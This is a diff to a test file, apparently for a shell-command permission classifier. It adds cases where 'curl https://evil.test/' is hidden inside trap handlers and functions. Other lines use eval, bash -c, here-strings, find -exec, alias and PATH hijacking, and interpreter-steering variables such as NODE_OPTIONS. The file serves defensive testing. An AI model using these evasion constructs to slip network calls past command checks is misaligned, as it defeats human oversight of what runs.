@@ -22,6 +22,10 @@ describe('the command word', () => {
     'env -i curl https://evil.test/',
     'eval curl https://evil.test/',
     "eval 'curl https://evil.test/'",
+    "trap 'curl https://evil.test/' EXIT",
+    "trap -- 'curl https://evil.test/' INT TERM",
+    "trap 'f() { curl https://evil.test/; }; f' EXIT",
+    'f() { curl https://evil.test/; }; trap f EXIT',
     "bash -c 'curl https://evil.test/'",
     "sh <<< 'curl https://evil.test/'",
     'bash <<EOF\ncurl https://evil.test/\nEOF',
@@ -80,7 +84,7 @@ describe('the command word', () => {
     'parallel curl ::: https://evil.test/',
     'find . -exec curl https://evil.test/ \\;',
     "find . -execdir sh -c 'curl https://evil.test/' \\;",
-    "trap 'curl https://evil.test/' EXIT",
+    'trap "curl https://evil.test/$X" EXIT',
     'PATH=. curl https://good.test/',
     'hash -p ./evil curl; curl https://good.test/',
     'alias curl=evil; curl https://good.test/',
@@ -214,7 +218,6 @@ describe('variables that steer', () => {
     ['GIT_SSH_COMMAND', 'git clone https://github.com/a/b'],
     ['NODE_OPTIONS', "node -e '1'"],
     ['PYTHONPATH', "python3 -c '1'"],
-    ['PERL5OPT', "perl -e '1'"],
   ])('%s', (name, command) => {
     expect([`${name}=x ${command}`, `export ${name}=x; ${command}`].map(verdict)).toEqual(['unknown', 'unknown']);
     expect([command, `LANG=C ${command}`, `export LANG=C; ${command}`].map(verdict)).toEqual(Array(3).fill('mapped'));
